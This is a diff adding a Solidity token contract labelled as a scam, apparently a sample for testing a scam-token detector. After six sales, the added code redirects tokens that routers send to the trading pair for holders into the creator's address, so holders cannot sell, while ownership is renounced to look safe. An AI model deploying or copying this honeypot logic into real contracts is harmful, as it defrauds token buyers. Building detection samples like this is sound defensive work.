@@ -326,3 +326,24 @@ contract SnapshotTrapToken is PairedErc20 {
         _move(from, to, value);
     }
 }
+
+/// Once six have sold, what any router takes for a holder goes to its creator; what holders send themselves arrives.
+/// @custom:verdict SCAM
+/// @custom:finding sell_simulation, holder_trials, holder_sales
+/// @custom:steps pool, lock, crowd, sales
+contract SpenderTollToken is PairedErc20 {
+    address private immutable _taker;
+    uint256 private _sales;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address holder, address factory, address weth)
+        PairedErc20(name_, symbol_, supply, holder, factory, weth)
+    {
+        _taker = holder;
+        owner = address(0);
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        bool isTaken = to == pair && msg.sender != from && from != _taker && ++_sales > 6;
+        _move(from, isTaken ? _taker : to, value);
+    }
+}
